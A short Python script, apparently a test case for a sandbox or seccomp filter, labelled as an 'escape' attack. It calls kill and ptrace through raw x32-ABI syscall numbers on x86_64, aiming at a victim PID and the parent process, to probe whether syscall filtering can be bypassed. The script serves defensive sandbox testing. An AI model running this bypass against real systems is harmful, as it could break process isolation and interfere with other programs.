# /// attack
# kind = "escape"
# aim = "signal and trace others by x32 numbers"
# outcome = "signal"
# signal = [31]
# machine = "x86_64"
# ///
import ctypes
import json
import os

given = json.loads(input())
libc = ctypes.CDLL(None)
if libc.syscall(0x40000000 | 62, given["victim"], 0) == 0:
    print("managed kill", flush=True)
if libc.syscall(0x40000000 | 521, 16, os.getppid(), 0, 0) == 0:
    print("managed ptrace", flush=True)
